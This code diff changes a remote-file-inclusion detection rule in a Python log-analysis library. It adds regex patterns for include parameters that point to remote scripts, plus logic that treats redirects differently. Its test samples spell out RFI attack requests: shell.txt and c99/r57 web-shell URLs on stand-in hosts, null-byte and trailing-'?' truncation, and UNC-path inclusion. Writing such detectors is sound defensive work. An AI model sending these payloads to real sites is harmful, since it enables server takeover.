@@ -2,8 +2,10 @@
 
 from __future__ import annotations
 
-from lwsyslog.matching.linear import Regex
-from lwsyslog.rules.base import BOTH, PatternRule
+from lwsyslog.events import Event
+from lwsyslog.matching.linear import Regex, Search, linear_search
+from lwsyslog.normalize import EventView
+from lwsyslog.rules.base import BOTH, PatternRule, Rule, RuleMatch
 from lwsyslog.rules.samples import AccessSample, ErrorSample
 from lwsyslog.severity import Severity
 
@@ -47,8 +49,61 @@ class InclusionStreamWrapper(PatternRule):
     )
 
 
-class InclusionRemoteUrl(PatternRule):
-    """A remote script URL as an include parameter (``?page=http://x/shell.txt?``)."""
+_URL = r"(?:https?|ftps?)://"
+# Where an include parameter is named for what it loads (``page=``, ``template=``,
+# ``include_path=``).
+_INCLUDE_NAME = (
+    r"\b(?:page|file|include|inc|template|tpl|dir|module|mod|path|doc|folder|root|layout|conf"
+    r"|lang|view|content|load|show)\w{0,12}"
+)
+# A script as the remote target whose name a trailing "?" cuts from the ".php" the application
+# appends (``c99.php?``, ``shell.txt?``). A Windows UNC path (\\host\share\x.php, read with "/"
+# once decoded) to a script in an include parameter: PHP on Windows includes it over SMB.
+_SCRIPT_CUT = linear_search(
+    Regex(
+        rf"=\s*{_URL}[^&\s]+?\.(?:txt|php\d?|phtml|pl|py|sh|jpg|gif|png)\?+(?:&|$)"
+        r"|\b(?:page|file|include|inc|template|tpl|module|mod|path|doc|layout|conf|lang|view"
+        r"|content|load)\w{0,12}=\s*//[\w.-]+/[^&\s?]*\.(?:php\d?|phtml|inc|txt)(?:$|[&?\s])"
+    )
+)
+# A text or script file ending the value (``r57.txt``; ``r57.txt%00`` once decoded).
+_TEXT = r"[^&\s]+?\.(?:txt|sh|pl|py)(?:&|$)"
+_SCRIPT = linear_search(Regex(rf"=\s*{_URL}{_TEXT}"))
+# Any URL ending the request in "?": the cut-off trick without a script's name.
+_CUT = linear_search(Regex(rf"=\s*{_URL}[^&\s]+?\?+$"))
+# Any URL, or a text or script file's, in an include parameter.
+_NAMED = linear_search(Regex(rf"{_INCLUDE_NAME}=\s*{_URL}"))
+_NAMED_SCRIPT = linear_search(Regex(rf"{_INCLUDE_NAME}=\s*{_URL}{_TEXT}"))
+# A parameter whose name ends so holds a link, not what a page includes (``page_url=``).
+_LINK_NAMES = ("url", "uri", "link", "href")
+# How many link parameters one field may hold before the rule stops reading on (a longer run
+# of them is reported: the work per line stays bounded).
+_MAX_LINKS = 8
+
+
+def _include_parameter(search: Search, text: str) -> str | None:
+    """The first match of ``search`` in ``text`` whose parameter is no link parameter."""
+    rest = text
+    for _ in range(_MAX_LINKS):
+        fragment = search(rest)
+        if fragment is None or not fragment.split("=", 1)[0].endswith(_LINK_NAMES):
+            return fragment
+        rest = rest[rest.find(fragment) + len(fragment) :]
+    return search(rest)
+
+
+class InclusionRemoteUrl(Rule):
+    """A remote script URL as an include parameter (``?page=http://x/shell.txt?``).
+
+    A script's URL cut off by "?" (``c99.php?``, ``shell.txt?``) counts in any parameter and
+    whatever the answer. A text or script file (``r57.txt``, ``r57.txt%00``), a URL that
+    merely ends in "?", and any URL in a parameter named for what a page includes (``page=``,
+    ``template=``) count unless the server answered with a redirect: a redirect or
+    outbound-link parameter (``/out?url=https://www.example.org/page`` answered 302) hands the
+    URL to the browser and no include runs; in an include parameter a text or script file
+    still counts then. A parameter named for a link (``page_url=``, ``content_link=``) is no
+    include parameter, and a plain link to a web page in any other parameter never counts.
+    """
 
     id = "file-inclusion-remote"
     categories = ("file-inclusion",)
@@ -56,30 +111,57 @@ class InclusionRemoteUrl(PatternRule):
     description = "remote file inclusion: a script/text URL, or a URL ending in '?', as a parameter"
     logs = BOTH
     fields = ("target", "message")
-    pattern = Regex(
-        r"=\s*(?:https?|ftps?)://[^&\s]+?(?:\.(?:txt|php\d?|phtml|pl|py|sh|jpg|gif|png)\?+"
-        r"(?:&|$)|\?+$|\.(?:txt|sh|pl|py)(?:&|$))"
-        r"|\b(?:page|file|include|inc|template|tpl|dir|module|mod|path|doc|folder|root|layout|conf"
-        r"|lang|view|content|load|show)\w{0,12}=\s*(?:https?|ftps?)://"
-        # A Windows UNC path (\\host\share\x.php, read with "/" once decoded) to a script in
-        # an include parameter: PHP on Windows includes it over SMB.
-        r"|\b(?:page|file|include|inc|template|tpl|module|mod|path|doc|layout|conf|lang|view"
-        r"|content|load)\w{0,12}=\s*//[\w.-]+/[^&\s?]*\.(?:php\d?|phtml|inc|txt)(?:$|[&?\s])"
-    )
-    trigger = r"://|=\s*//"
+    triggers = dict.fromkeys(fields, r"://|=\s*//")
     must_match = (
         AccessSample(target="/index.php?page=http://203.0.113.50/shell.txt?"),
         AccessSample(target="/index.php?inc=hTTp%3A%2F%2Fevil.example%2Fc99.txt%3F%3F"),
         AccessSample(target="/main.php?template=https://evil.example/x"),
         AccessSample(target="/view.php?page=%5c%5c198.51.100.9%5cshare%5cshell.php"),
         AccessSample(target="/view.php?inc=%5C%5Cevil.example%5Cs%5Cx.txt&a=1"),
+        AccessSample(target="/index.php?file=http://198.51.100.9/r57.txt%00"),
+        AccessSample(target="/index.php?page=http://203.0.113.50/shell.txt?", status=302),
+        AccessSample(target="/redirect.php?to=http://evil.example/c99.php?", status=302),
+        AccessSample(target="/index.php?file=http://198.51.100.9/r57.txt", status=302),
+        AccessSample(target="/fetch?url=http://198.51.100.9/r57.txt"),
+        AccessSample(target="/index.php?lang=http://evil.example/x?"),
+        AccessSample(target="/go?page_url=https://www.example.org/a&page=ftp://evil.example/x"),
+        ErrorSample(
+            message="AH00126: Invalid URI in request GET /index.php?page=http://evil.example/x "
+            "HTTP/1.1"
+        ),
     )
     must_not_match = (
         AccessSample(target="/login?next=https://example.com/account&lang=en"),
         AccessSample(target="/share?url=https://news.example.com/story?id=7&ref=tw"),
         AccessSample(target="/login?next=//www.example.com/account"),
         AccessSample(target="/view.php?page=//cdn.example.com/help/index.html"),
+        AccessSample(target="/out?url=https://www.example.org/page", status=302),
+        AccessSample(target="/redirect.php?to=http://partner.example.com/", status=302),
+        AccessSample(target="/out?url=https://www.example.org/page?", status=302),
+        AccessSample(target="/click?page=https://www.example.org/article", status=302),
+        AccessSample(target="/track?page_url=https://www.example.org/article", status=204),
+        AccessSample(target="/go?content_link=https://www.example.org/a.html"),
+        AccessSample(target="/out?url=https://www.rfc-editor.org/rfc/rfc9110.txt", status=302),
     )
+
+    def evaluate(self, event: Event, view: EventView) -> RuleMatch | None:
+        """The first field holding a script's URL cut off by "?" or a URL in an include
+        parameter (after a redirect, only a text or script file's); unless the answer was a
+        redirect, also a text or script file's URL, or a URL cut off by "?", anywhere."""
+        status = getattr(event, "status", None)
+        redirected = status is not None and 300 <= status < 400
+        for name in self.fields:
+            text = view.lower(name)
+            if not text:
+                continue
+            fragment = _SCRIPT_CUT.search(text) or _include_parameter(
+                _NAMED_SCRIPT.search if redirected else _NAMED.search, text
+            )
+            if fragment is None and not redirected:
+                fragment = _SCRIPT.search(text) or _CUT.search(text)
+            if fragment is not None:
+                return RuleMatch(name, fragment)
+        return None
 
 
 _PROC = r"proc/(?:self|\d{1,7}|thread-self)/(?:environ|cmdline|fd/\d|maps|status|cwd|exe|root)"
